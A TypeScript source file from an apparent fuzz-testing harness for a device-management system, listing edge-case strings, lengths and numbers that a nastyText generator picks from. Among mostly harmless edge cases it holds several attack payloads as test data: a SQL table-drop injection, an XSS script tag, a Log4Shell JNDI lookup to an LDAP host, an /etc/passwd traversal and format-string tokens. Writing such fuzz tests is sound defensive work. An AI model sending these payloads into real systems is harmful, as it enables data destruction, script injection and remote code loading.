import type { Random } from '../chaos/random';
import { indexBelow, pick } from './pick';

/** Texts that have broken somebody's parser, identity, number, date or table. */
const TEXTS: readonly string[] = [
  '',
  ' ',
  '\0',
  '\u001b[31m',
  '\ufeff',
  '\ufffd',
  '\u202eabc',
  '\u{1F600}',
  '示例',
  'ß'.repeat(40),
  "'; DROP TABLE devices; --",
  '"><script>alert(1)</script>',
  '${jndi:ldap://192.0.2.1/a}',
  '../../../etc/passwd',
  '%00%n%s',
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'null',
  'undefined',
  'true',
  'NaN',
  '-Infinity',
  '-0',
  '1e400',
  '1e-400',
  '0x10',
  '9007199254740993',
  '4294967296',
  '-1',
  '99999999',
  '1970-01-01T00:00:00Z',
  '0001-01-01T00:00:00',
  '9999-12-31T23:59:59Z',
  '2026-02-30T25:61:61+99:99',
  '253402300800000',
  '&amp;',
  '&#0;',
  '&#x1F600;',
  '&bogus;',
  '&',
  ']]>',
  '<',
  'Device.',
  '.ExternalIPAddress',
  'InternetGatewayDevice.DeviceInfo.UpTime',
  'Device.Optical.Interface.1.OpticalSignalLevel',
  'Device.WiFi.AccessPoint.1.Security.KeyPassphrase',
];

/** Lengths around the bounds of names, texts, attributes and bodies. */
const LENGTHS: readonly number[] = [31, 32, 64, 65, 128, 255, 256, 257, 4096, 4097, 65_535, 65_537];

export function nastyText(random: Random): string {
  const kind = indexBelow(random, 40);
  if (kind === 0) return pick(random, ['x', '0', '.', 'Device.', '&amp;', ' ']).repeat(pick(random, LENGTHS));
  if (kind < 4) return String(pick(random, [-1, 1, 1000]) * random() * 10 ** indexBelow(random, 20));
  return pick(random, TEXTS);
}
